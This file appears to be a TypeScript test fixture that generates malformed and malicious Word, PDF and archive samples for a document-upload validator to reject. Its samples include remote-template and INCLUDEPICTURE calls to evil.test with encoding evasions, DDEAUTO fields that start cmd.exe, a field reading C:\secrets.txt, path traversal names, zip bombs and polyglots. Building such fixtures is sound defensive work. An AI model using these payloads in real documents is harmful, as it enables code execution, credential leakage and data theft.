import { createCompound } from "./compound.ts";
import {
  body,
  doc,
  docx,
  docxParts,
  external,
  links,
  type Packed,
  relation,
  relations,
  settings,
  zip,
} from "./files.ts";
import { pdf } from "./pdfs.ts";

const evil = relations(external("attachedTemplate", "https://evil.test/a.dotm"));
const templateAt = (target: string) => () =>
  settings(relations(external("attachedTemplate", target)));

/** Remote templates can contain macros. */
const remoteTemplates: Record<string, () => Packed> = {
  plainly: () => settings(evil),
  "in another part": () => ({ name: "word/_rels/other.xml.rels", content: evil }),
  "in a part written large": () => ({ name: "word/_rels/settings.xml.RELS", content: evil }),
  "in UTF-16": () => settings(Buffer.from(`\ufeff${evil}`, "utf16le")),
  "in UTF-16 without a mark": () => settings(Buffer.from(evil.replace(/^.*\r\n/, ""), "utf16le")),
  "in UTF-7": () => settings(evil.replace("UTF-8", "UTF-7").replace("https", "+AGgAdAB0AHAAcw-")),
  "in character references": () => settings(evil.replace("https", "&#104;ttps")),
  "in a type of character references": () => settings(evil.replace("attached", "&#97;ttached")),
  "in an entity": () =>
    settings(
      evil
        .replace("<Relationships", '<!DOCTYPE r [<!ENTITY e "https://evil.test">]><Relationships')
        .replace("https://evil.test", "&e;"),
    ),
  "behind a comment": () => settings(evil.replace("<Relationship ", '<!-- " --><Relationship ')),
  "behind a sign in another attribute": () => settings(evil.replace('Id="r"', 'Id=">"')),
  "under a prefix": () => settings(evil.replace("xmlns=", "xmlns:p=").replace(/(<\/?)R/g, "$1p:R")),
  "from a share": templateAt("\\\\evil.test\\share\\a.dotm"),
  "from a share by its address": templateAt("file://evil.test/share/a.dotm"),
  "from a share by four strokes": templateAt("file:////evil.test/Users/a.dotm"),
  "from a share within an address": templateAt("file:///\\\\evil.test\\Users\\a.dotm"),
};

const text = (xml: string) => () => docx({ name: "word/header1.xml", content: body(xml) });
const begin = '<w:fldChar w:fldCharType="begin"/>';
const end = '<w:fldChar w:fldCharType="end"/>';
const instruction = (words: string) => `<w:instrText>${words}</w:instrText>`;
const field = (...words: string[]) => `${begin}${words.map(instruction).join("")}${end}`;
const runs = String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`;
const headerType = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml";

const activeFields: Record<string, () => Buffer> = {
  "that starts a program": text(field(runs)),
  "that starts a program, in small letters": text(field(runs.toLowerCase())),
  "that starts a program, in pieces": text(field(" DD", "EAU", runs.slice(5))),
  "that starts a program, in one element": text('<w:fldSimple w:instr="DDE cmd.exe a"/>'),
  "that starts a program, in references": text(field("&#68;&#x44;E cmd.exe")),
  "that starts a program, in a section of its own": text(field("<![CDATA[DDE cmd.exe]]>")),
  "that starts a program, under another prefix": () =>
    docx({ name: "word/a.xml", content: body(field(runs)).replaceAll("w:", "z:") }),
  "that starts a program, within another": text(
    `${begin}${instruction("IF 1 = 1 ")}${field(runs)}${end}`,
  ),
  "that starts a program, without an end": text(`${begin}${instruction(runs)}`),
  "whose name is another field's result": text(
    `${begin}${field("QUOTE 68 68 69")}${instruction(" cmd.exe")}${end}`,
  ),
  "that starts a program, in a part elsewhere": () => {
    const said = `<Override PartName="/custom/a.txt" ContentType="${headerType}"/></Types>`;
    const [types, ...others] = docxParts();
    const content = types?.content?.toString().replace("</Types>", said) ?? "";
    return zip([
      { name: "[Content_Types].xml", content },
      ...others,
      { name: "custom/a.txt", content: body(field(runs)) },
    ]);
  },
  "that runs a macro": text(field("MACROBUTTON Evil click here")),
  "that reads another file": text(field(String.raw`INCLUDETEXT "C:\\secrets.txt"`)),
  "that fetches a picture": text(field(String.raw`INCLUDEPICTURE "https://evil.test/a.png" \d`)),
  "that fetches a picture from a share": text(
    field(String.raw`INCLUDEPICTURE "\\\\evil.test\\a.png"`),
  ),
  "that fetches a picture from a share, by its address": text(
    field('INCLUDEPICTURE "file:////evil.test/a.png"'),
  ),
  "that fetches a picture from where another field says": text(
    `${begin}${instruction("INCLUDEPICTURE ")}${field("QUOTE 1")}${end}`,
  ),
};

export const badFiles: Record<string, () => Buffer> = {
  nothing: () => Buffer.alloc(0),
  "a picture": () => Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"),
  HTML: () => Buffer.from("<!doctype html><script>alert(1)</script>"),
  "a PDF that is cut off": () => pdf().subarray(0, 80),
  "a PDF behind other bytes": () => Buffer.concat([Buffer.from("MZ\n"), pdf()]),
  "a PDF with a page after its end": () => Buffer.concat([pdf(), Buffer.from("<script></script>")]),
  "a PDF with an archive after its end": () => Buffer.concat([pdf(), zip(docxParts())]),
  "a PDF that is an archive too": () =>
    zip(docxParts(), { before: "%PDF-1.7\n", comment: "startxref\n0\n%%EOF" }),
  "an archive that is no document": () => zip([{ name: "a.txt", content: "x" }]),
  "a spreadsheet": () =>
    zip(docxParts("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")),
  "a document with macros by its type": () =>
    zip(docxParts("application/vnd.ms-word.document.macroEnabled.main+xml")),
  "a document with macros by a part": () => docx({ name: "word/vbaProject.bin", content: "x" }),
  "a document with ActiveX": () => docx({ name: "word/activeX/activeX1.bin", content: "x" }),
  "a document with a program": () => docx({ name: "word/embeddings/run.exe", content: "x" }),
  "a document with an OLE package": () =>
    docx({ name: "word/embeddings/oleObject1.bin", content: "x" }),
  "a document with an OLE package under another name": () =>
    docx(
      { name: "word/media/a.dat", content: "x" },
      links(relations(relation("oleObject", "media/a.dat"))),
    ),
  "a document with a picture from elsewhere": () =>
    docx(links(relations(external("image", "https://evil.test/a.png")))),
  "a document with a part from elsewhere that is not said to be": () =>
    docx(links(relations(relation("frame", "https://evil.test/a.html")))),
  ...Object.fromEntries(
    Object.entries(remoteTemplates).map(([how, part]) => [
      `a document with a template from elsewhere, ${how}`,
      () => docx(part()),
    ]),
  ),
  ...Object.fromEntries(
    Object.entries(activeFields).map(([how, file]) => [`a document with a field ${how}`, file]),
  ),
  "a document with a page in it": () =>
    docx(
      { name: "word/a.html", content: "<html></html>" },
      links(relations(relation("aFChunk", "a.html"))),
    ),
  "a document whose text is no XML": text("<w:p>"),
  "a document whose text declares entities": () =>
    docx({
      name: "word/a.xml",
      content: body("").replace("<w:document", "<!DOCTYPE w:document><w:document"),
    }),
  "a document whose text is in UTF-16": () =>
    docx({ name: "word/a.xml", content: Buffer.from(`\ufeff${body("")}`, "utf16le") }),
  "endless relations": () => docx(links("<Relationship ".repeat(75_000))),
  "a relation of many attributes without an end": () =>
    docx(links(`<Relationship${' a="b"'.repeat(40_000)}`)),
  "many large relations": () =>
    docx(
      ...Array.from({ length: 4 }, (_, at) => ({
        name: `word/_rels/${at}.xml.rels`,
        content: relations(" ".repeat(70_000)),
      })),
    ),
  "an archive bomb": () =>
    docx({ name: "word/media/a.bin", content: Buffer.alloc(30 * 1024 * 1024) }),
  "many large entries": () =>
    docx(
      ...Array.from({ length: 5 }, (_, at) => ({
        name: `word/${at}`,
        content: Buffer.alloc(10 * 1024 * 1024),
      })),
    ),
  "too many entries": () =>
    docx(...Array.from({ length: 1_001 }, (_, at) => ({ name: `word/${at}`, method: 0 }))),
  "a size that is a lie": () => docx({ name: "word/a", content: Buffer.alloc(100_000), size: 10 }),
  "entries that share bytes": () => {
    const inner = zip([{ name: "word/b", content: "x".repeat(100) }]).subarray(0, 40);
    const outer = { name: "word/a", content: inner, method: 0 };
    return docx(outer, { name: "word/b", at: docx(outer).indexOf(inner) });
  },
  "a name twice": () => docx({ name: "word/Document.xml", content: "x" }),
  "a path upwards": () => docx({ name: "../evil", content: "x" }),
  "an absolute path": () => docx({ name: "/etc/evil", content: "x" }),
  "a Windows path": () => docx({ name: "word\\..\\evil", content: "x" }),
  "a name with a null byte": () => docx({ name: "word/a\0.xml", content: "x" }),
  "an encrypted entry": () => docx({ name: "word/a", content: "x", flags: 1 }),
  "an unusual compression": () => docx({ name: "word/a", content: "x", method: 12 }),
  "two names for one entry": () => docx({ name: "word/a", content: "x", localName: "word/b" }),
  "bytes before an archive": () => zip(docxParts(), { before: "#!/bin/sh\n" }),
  "an archive that is cut off": () => docx().subarray(0, -8),
  "a DOC that is cut off": () => doc().subarray(0, 1_024),
  "a DOC with macros": () => doc("Macros"),
  "a DOC with a packed file": () => doc("\u0001Ole10Native"),
  "a DOC with a field that starts a program": () =>
    Buffer.concat([doc(), Buffer.from(`\u0013 ${runs} \u0014 x \u0015`)]),
  "a DOC with a field that starts a program, in two bytes a letter": () =>
    Buffer.concat([doc(), Buffer.from(`\u0013 ${runs} \u0014 x \u0015`, "utf16le")]),
  "a compound file that is no document": () => createCompound({ Workbook: "x" }),
  "a DOC that is an archive too": () => Buffer.concat([doc(), zip(docxParts())]),
};

/** Creates a DOC with an endless chain of sectors. */
export function circularDoc(): Buffer {
  const file = doc();
  const table = (file.readUInt32LE(76) + 1) * 512;
  const directory = file.readUInt32LE(48);
  file.writeUInt32LE(directory, table + directory * 4);
  return file;
}
